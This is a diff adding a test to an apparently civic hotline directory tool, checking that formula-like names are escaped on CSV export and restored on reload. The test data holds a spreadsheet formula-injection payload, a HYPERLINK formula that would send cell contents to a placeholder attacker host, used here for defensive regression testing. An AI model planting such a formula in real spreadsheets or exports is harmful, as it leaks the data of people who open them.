@@ -3,6 +3,8 @@ file, as an administrator sets up a new hotline (docs/production.md)."""
 
 from __future__ import annotations
 
+import csv
+import io
 from pathlib import Path
 
 import pytest
@@ -131,3 +133,24 @@ def test_export_reads_back_as_it_is(runner, tmp_path, city):
     result = runner.invoke(args=["directory", "load", str(exported)])
     assert result.exit_code == 0, result.output
     assert " 0 created, 0 updated" in result.output and "1 updated" not in result.output
+
+
+def test_a_name_that_reads_as_a_formula_is_exported_as_text_and_loads_back(runner, tmp_path, city):
+    formula = '=HYPERLINK("http://evil.example/?leak="&A2&B2;"Click")'
+    city.roads.name = formula
+    city.potholes.name = "-1+2"
+    db.session.commit()
+    exported = tmp_path / "out.csv"
+    assert runner.invoke(args=["directory", "export", str(exported)]).exit_code == 0
+    rows = {(row["kind"], row["code"]): row for row in csv.DictReader(io.StringIO(exported.read_text("utf-8")))}
+    assert rows[("department", "roads")]["name"] == "'" + formula
+    assert rows[("category", "potholes")]["name"] == "'-1+2"
+    assert not [row for row in rows.values() for cell in row.values() if cell.startswith(("=", "+", "-", "@"))]
+    result = runner.invoke(args=["directory", "load", str(exported)])
+    assert result.exit_code == 0, result.output
+    assert " 0 created, 0 updated" in result.output and "1 updated" not in result.output
+    db.session.expire_all()
+    assert (db.session.get(Department, city.roads.id).name, db.session.get(Category, city.potholes.id).name) == (
+        formula,
+        "-1+2",
+    )
